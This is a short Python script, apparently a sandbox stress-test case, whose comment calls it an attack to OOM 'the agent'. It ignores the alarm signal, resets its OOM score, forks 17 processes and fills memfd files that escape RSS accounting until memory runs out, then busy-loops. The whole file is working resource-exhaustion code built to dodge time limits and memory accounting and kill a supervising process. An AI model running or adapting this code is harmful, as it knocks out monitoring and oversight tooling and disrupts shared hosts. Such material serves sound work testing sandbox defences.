# attack: lower oom_score_adj to 0, fill memfd files (in no RSS) from 17 processes: OOM the agent
import os
import signal

signal.signal(signal.SIGALRM, signal.SIG_IGN)
with open("/proc/self/oom_score_adj", "w") as f:
    f.write("0")
block = b"x" * (1024 * 1024)
for _ in range(16):
    if os.fork() == 0:
        break
fds = []
while True:
    try:
        fd = os.memfd_create("fill")
        fds.append(fd)
        for _ in range(4):
            os.write(fd, block)
    except OSError:
        if len(fds) > 40:
            break
while True:
    pass
